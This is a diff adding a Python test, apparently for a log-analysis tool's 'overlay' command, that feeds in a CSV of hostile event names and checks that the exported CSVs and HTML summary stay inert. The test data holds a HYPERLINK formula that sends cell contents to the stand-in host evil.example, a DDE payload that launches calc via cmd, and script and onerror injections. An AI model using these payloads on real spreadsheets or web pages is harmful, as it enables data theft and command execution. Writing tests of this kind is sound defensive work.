@@ -374,3 +374,35 @@ def test_spreadsheet_exports_neutralise_formulas(fmt: str, payload: str, tmp_pat
     _assert_inert(cells, f"{fmt} export")
     shown = payload.strip()
     assert any(shown in c for c in cells), "the text is kept (with a leading apostrophe), not dropped"
+
+
+# --- the data overlay: event names and channels come straight from the user's log -----------
+
+INJECTED_LOG = '''user_id,timestamp,event,channel
+u1,2026-10-01 08:00:00,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",app
+u1,2026-10-01 08:01:00,<script>alert(1)</script>,"<img src=x onerror=alert(2)>"
+u1,2026-10-01 08:02:00,payment_success,app
+u2,2026-10-01 09:00:00,"@SUM(1+1)*cmd|' /C calc'!A0",web
+u2,2026-10-01 09:01:00,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",web
+u3,2026-10-01 10:00:00,+1+1,"-2+3"
+u3,2026-10-01 10:05:00,payment_success,app
+'''
+
+
+def test_overlay_outputs_keep_user_event_names_inert(tmp_path: Path) -> None:
+    log = tmp_path / "events.csv"
+    log.write_text(INJECTED_LOG, encoding="utf-8")
+    out = tmp_path / "overlay"
+    assert main(["overlay", str(log), "--project", str(SAMPLE_PROJECT), "--out", str(out), "--no-progress"]) == 0
+
+    tables = sorted(out.glob("*.csv"))
+    assert len(tables) >= 5
+    cells = [c for table in tables for c in _csv_cells(table.read_bytes())]
+    _assert_inert(cells, "overlay CSVs")
+    assert any("HYPERLINK" in c for c in cells), "the event names are kept, as text"
+
+    page = Markup((out / "summary.html").read_text(encoding="utf-8"))
+    assert page.scripts == 0
+    assert [name for name, _ in page.attrs if name.startswith("on")] == []
+    sources = [value for name, value in page.attrs if name == "src"]
+    assert sources and all(value.startswith("data:image/") for value in sources), "only the embedded figures"
